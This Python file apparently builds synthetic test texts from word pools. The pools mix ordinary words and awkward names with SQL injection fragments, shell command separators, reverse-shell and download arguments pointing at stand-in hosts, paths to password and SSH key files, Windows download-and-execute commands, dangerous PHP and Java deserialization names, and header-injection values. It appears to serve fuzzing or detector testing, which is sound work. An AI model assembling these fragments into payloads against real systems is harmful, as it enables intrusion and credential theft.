"""Words: what fills the holes of invented texts.

Names of functions, classes and commands are those of the languages' and systems' own documentation.
"""

from __future__ import annotations


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


HOLES = {
    "n": _words("0 1 2 3 5 7 10 12 42 99 100 1337 2024 65535 -1 0.5"),
    "q": ("'", "\"", "')", "\")", "'))", "", "`"),
    "end": ("--", "-- -", "#", ";", "/*", "", "", ";--", "--+", "%00"),
    "join": _words("or and xor || && OR And having where div rlike"),
    "cmp": (
        "=", "<", ">", ">=", "<=", "<>", "!=", "<=>", " like ", " is not ", " between 1 and ", " in (1) and 2=",
        " rlike ", " sounds like ",
    ),
    "col": _words(
        "id name user username password email login pass a b c table_name column_name @@version version() user() "
        "null 1 2 *"
    ),
    "tab": _words(
        "users user accounts admin members dual information_schema.tables mysql.user pg_shadow sysobjects orders "
        "all_tables t x"
    ),
    "sqlf": _words(
        "abs ascii avg benchmark bin bit_length cast ceil char char_length charindex chr coalesce compress "
        "concat concat_ws connection_id conv convert count crc32 curdate current_user database datediff db_name "
        "elt encode exp export_set extractvalue field find_in_set floor format found_rows from_base64 "
        "from_unixtime get_lock greatest group_concat hex host_name if ifnull inet_aton insert instr isnull "
        "json_extract last_insert_id least left length listagg ln load_file locate log lower lpad ltrim make_set "
        "max md5 mid min name_const now nullif nvl oct ord password pg_read_file pg_sleep pi polygon position "
        "pow quote quote_ident rand regexp_substr release_lock repeat replace reverse right round row_count "
        "row_to_json rpad rtrim schema_name sha1 sha2 sign sleep soundex space sqrt std str_to_date strcmp "
        "string_agg stuff substr substring sum suser_name sys_context sysdate sys_eval to_base64 to_char "
        "to_number trim truncate unhex unix_timestamp updatexml upper user utl_inaddr.get_host_name uuid "
        "variance version waitfor xmltype"
    ),
    "type": _words("int char varchar(20) signed unsigned numeric text date decimal(5) binary jsonb xml regclass"),
    "sqlx": (
        "{sqlf}({col})", "{sqlf}({col},{n})", "{sqlf}({sqlf}({col}),{n},{n})", "cast({col} as {type})",
        "convert({type},{col})", "(select {col} from {tab})", "(select {sqlf}({col}) from {tab} limit 1)",
        "case when {n}{cmp}{n} then {n} else {n} end", "if({n}{cmp}{n},{sqlf}({n}),{n})", "{n}", "'{col}'", "@@{col}",
        "0x616263", "(select({sqlf}({n})))", "{col}::{type}",
    ),
    "sep": (";", "|", "||", "&&", "&", "\n", ";\n", "`", "$(", "| ", "; ", "&& ", " & "),
    "cmd": _words(
        "id whoami ls cat uname ps netstat ifconfig ip hostname pwd env printenv w last who uptime df du find "
        "grep awk sed head tail more less nl tac rev sort uniq cut tr xxd od strings base64 curl wget nc ncat "
        "socat telnet ssh scp ftp tftp rsync ping nslookup dig host traceroute python python3 perl ruby php node "
        "lua bash sh zsh ksh dash busybox gcc make chmod chown touch mkdir rm cp mv ln tar gzip zip unzip kill "
        "pkill crontab at nohup timeout sleep sudo su passwd useradd systemctl service mount dd tee xargs time "
        "watch screen docker kubectl git vim vi ed openssl sqlite3 mysql psql tcpdump nmap lsof getent cpio "
        "dmesg arp route"
    ),
    "arg": (
        "-la", "-a", "/etc/passwd", "/etc/hosts", "-c id", "-e /bin/sh 192.0.2.7 4444", "http://192.0.2.7/x.sh",
        "-O- http://evil.example/a", "-n 3 127.0.0.1", "$HOME", "../../", "/tmp/x", "> /tmp/o", "2>&1",
        "-r 'print 1'", "'a'", "*", "-exec id ;", "/var/log/syslog", "-l -p 8080", "--version", "-i", "~/.ssh/id_rsa",
        "/???/p??s??", "", "", "{a,b}", "${IFS}/etc/hosts", "<<< x", "-d @/etc/shadow",
    ),
    "win": (
        "dir c:\\", "type c:\\windows\\win.ini", "net user", "net view", "ipconfig /all", "systeminfo", "tasklist /v",
        "whoami /priv", "ver", "set", "cmd /c {cmd}", "cmd.exe /k dir", "powershell -enc SQBFAFgA",
        "powershell -nop -c \"{cmdlet}\"", "certutil -urlcache -f http://a.example/x x", "reg query HKLM\\Software",
        "sc query", "wmic os get name", "schtasks /create /tn a", "copy a b", "del /q c:\\temp\\*", "echo %username%",
        "for /f %i in ('dir') do echo %i", "if exist c:\\a.txt echo y", "rundll32 a.dll,b",
        "mshta http://a.example/a.hta", "%comspec% /c dir", "start calc.exe", "findstr /s pass *.txt", "attrib +h a",
        "icacls c:\\ /t", "bitsadmin /transfer a http://a.example/x c:\\x", "vssadmin list shadows",
    ),
    "cmdlet": (
        "Get-ChildItem", "Get-Content .\\a.txt", "Get-Process", "Invoke-Expression $a",
        "Invoke-WebRequest http://a.example", "Start-Process calc", "New-Object Net.WebClient",
        "Set-ExecutionPolicy Bypass", "Remove-Item -r c:\\a", "Get-WmiObject win32_process", "Out-File a",
        "Set-Content a b", "Test-Connection a", "Copy-Item a b", "Import-Module a", "Start-Sleep 5", "Get-Service",
        "Write-Output a", "ForEach-Object {$_}", "Add-Type -A a",
    ),
    "phpf": _words(
        "system exec passthru shell_exec popen proc_open assert eval phpinfo file_get_contents file_put_contents "
        "fopen readfile include require include_once require_once base64_decode gzinflate str_rot13 unserialize "
        "call_user_func array_map array_filter usort preg_replace create_function var_dump print_r "
        "highlight_file show_source scandir glob opendir move_uploaded_file copy rename unlink mkdir chmod "
        "symlink getenv putenv ini_get ini_set set_time_limit curl_exec fsockopen stream_context_create "
        "mysqli_query pg_query posix_getpwuid getcwd get_defined_vars php_uname phpversion sys_getloadavg "
        "gethostbyname mail header setcookie extract parse_str hex2bin chr convert_uudecode "
        "register_shutdown_function ob_start spl_autoload_register is_file file_exists touch tempnam fwrite "
        "fputs"
    ),
    "phpa": (
        "'id'", "\"ls -la\"", "$_GET[a]", "$_POST['x']", "'/etc/passwd'", "$a", "1", "base64_decode('aWQ=')",
        "__FILE__", "'a','b'", "$_REQUEST[0]", "", "chr(105)",
    ),
    "phpv": _words(
        "$_GET $_POST $_COOKIE $_SERVER $_FILES $_REQUEST $_SESSION $_ENV $GLOBALS $this $a $HTTP_POST_VARS "
        "$argv"
    ),
    "jpkg": _words(
        "java.lang java.io java.net java.nio.file java.util java.beans java.rmi java.sql java.security "
        "javax.naming javax.script javax.management javax.servlet javax.el javax.xml.transform "
        "org.apache.commons.collections org.apache.commons.beanutils org.apache.xalan org.apache.struts2 "
        "org.springframework.context.support org.springframework.beans org.codehaus.groovy.runtime org.hibernate "
        "com.sun.rowset com.sun.org.apache.bcel com.opensymphony.xwork2 com.mchange.v2.c3p0 groovy.lang bsh "
        "freemarker.template.utility sun.misc weblogic.jms clojure.core org.python.util"
    ),
    "jcls": _words(
        "Runtime ProcessBuilder System Class ClassLoader Object String File FileInputStream FileReader "
        "FileOutputStream URL URLClassLoader Socket ScriptEngineManager InitialContext JdbcRowSetImpl "
        "InvokerTransformer ChainedTransformer ConstantTransformer TemplatesImpl Interpreter "
        "ClassPathXmlApplicationContext GroovyShell Execute Unsafe BeanShell Method Thread Proxy PriorityQueue "
        "HashMap BufferedReader InputStreamReader PrintWriter ObjectInputStream MBeanServer Paths Files Scanner "
        "XMLDecoder ELProcessor ServletActionContext"
    ),
    "jm": _words(
        "getRuntime exec forName getMethod invoke newInstance getClass getClassLoader loadClass defineClass "
        "start getInputStream readLine lookup eval getDeclaredMethod setAccessible getProperty exit load "
        "loadLibrary connect openConnection getWriter println toCharArray getParameter addHeader setHeader "
        "getResponse getRequest getSession getOutputStream getProtectionDomain getConstructor readObject "
        "transform compile"
    ),
    "url": (
        "http://evil.example/x", "http://192.0.2.7/a.txt", "http://127.0.0.1:8080/", "https://a.example/b.php?",
        "ftp://a.example/x", "//evil.example", "http://169.254.169.254/latest/",
    ),
    "file": (
        "/etc/passwd", "/etc/shadow", "../../../../etc/hosts", "c:\\windows\\win.ini", "..\\..\\boot.ini",
        "/proc/self/environ", "/var/log/apache2/access.log", "WEB-INF/web.xml", ".env", ".git/config",
        "wp-config.php",
    ),
    "crlf": ("\r\n", "\n", "%0d%0a", "\r", "\r\n "),
    "hdr": (
        "Set-Cookie: a=b", "Location: {url}", "Content-Type: text/html", "Content-Length: 0",
        "X-Forwarded-For: 127.0.0.1", "Host: evil.example", "HTTP/1.1 200 OK", "Transfer-Encoding: chunked",
        "Refresh: 0;url={url}", "Access-Control-Allow-Origin: *", "Bcc: a@evil.example", "Link: <{url}>",
    ),
    "w": _words(
        "the a of and to in is for with on by at from as or not be are was it this that which all some new best "
        "large small red blue green old good free sale price size order table select update delete insert drop "
        "union join group having where like between null true false set into values index view key script image "
        "link style frame object window document alert function class public import return value list find sort "
        "print echo cat head tail time host user admin login password name email phone address city street house "
        "garden music video photo book shoes jacket coffee tea water bread cheese fish travel hotel flight train "
        "car bike school work office team home about contact help search result page site web design report "
        "project plan budget review question answer reason how what why when where who can could should would "
        "will may might und der die das mit für nicht le la les des une pour avec sur el los para con una por di "
        "che non per gli med och att som de het een van ole para você não"
    ),
    "name": (
        "O'Brien", "D'Angelo", "O'Reilly", "McDonald's", "Levi's", "L'Oréal", "Ben & Jerry's", "Rock 'n' Roll",
        "Anne-Marie", "Jean-Luc", "Müller", "José", "Smith, John", "Dr. No", "Bed, Bath & Beyond", "H&M", "AT&T",
        "Toys \"R\" Us", "N'Golo", "Ma'am", "d'Artagnan",
    ),
    "unit": ("cm", "kg", "%", "€", "$", "°C", "mm", "\"", "'", "GB", "px", "ft", "x", "k", "+"),
    "tech": (
        "`{w}`", "`{w}.{w}`", "`{w}()`", "{w}.{w}({w}={n})", "`--{w}-{w}`", "--{w} {n}", "{w}_{w}", "`{w}_{w}`",
        "/{w}/{w}.json", "`/{w}/{w}`", "http://localhost:8000/{w}", "https://{w}.example/{w}#{w}", "``{w}``",
        "select * from {w} where {w} = '{w}'", "select {w}, {w} from {w} order by {w}", "<{w}>", "</{w}>", "${w}",
        "{w}=\"{w}\"", "import {w}", "from {w} import {w}", "def {w}({w}):", "{\"{w}\": {n}}", "class {w}({w})",
        "@{w}.{w}", "$ {w} --{w}={w}", "pip install {w}", "{w}/{w}.py", "{w}[{n}]", "{w}['{w}']", "(see {w} {n})",
        "'{w}'", "\"{w} {w}\"", "{w} = {w}.{w}()", "~/.{w}", "#{n}", "{w}-{w}", "{w}/{w}", "*{w}*", "{w} -> {w}",
        "{w} >= {n}", "{n}.{n}.{n}", ":ref:`{w}`", "{w}::{w}", "%s", "{{ {w} }}", "async with {w}() as {w}:",
        "await {w}.{w}()", "return {w}", "if {w} is None", "lambda {w}: {w}", "{w}(*{w})", "[{w}]", "e.g. {w}",
        "i.e. {w}", "{w}'s", "__{w}__", "{w};", "{w},", "echo $PATH", "cat {w}.txt | {w}",
    ),
    "tick": ("{w} {w} {tech} {w}", "{w} {w} {w}", "{w} {tech}, {w} {w}", "{tech} {w} {w} {w}", "{w} {w} {w} {w} {w}"),
    "said": (
        "{tick} {tick} {tick}. ", "{tick} {tick}: {tick}. ", "{tick} {tick} {tick} {tick}\n",
        "{tick}, {tick} {tick} ({tick}). ", "{tick} {tick}; {tick}. ",
    ),
    "sign": tuple("!?*+-_.,:;/|#%&=~^@()[]<>'\" "),
    "mash": (
        "{sign}", "{sign}{sign}", "{sign}{sign}{sign}", "{w}{sign}{n}{sign}", "{sign}{w}{sign}{sign}", "{sign} {sign}",
    ),
    "link": (
        "/{w}/{w}", "{w}.html", "../", "/{w}", "https://{w}.example/{w}", "http://www.{w}.example/", "#{w}",
        "{w}/{w}.html",
    ),
    "words": ("{w} {w}", "{w} {w} {w}", "{w} {w} {w} {w}", "{w} {w} {w} {w} {w} {w} {w}", "{w}, {w} {w}", "{w}"),
}  # fmt: skip
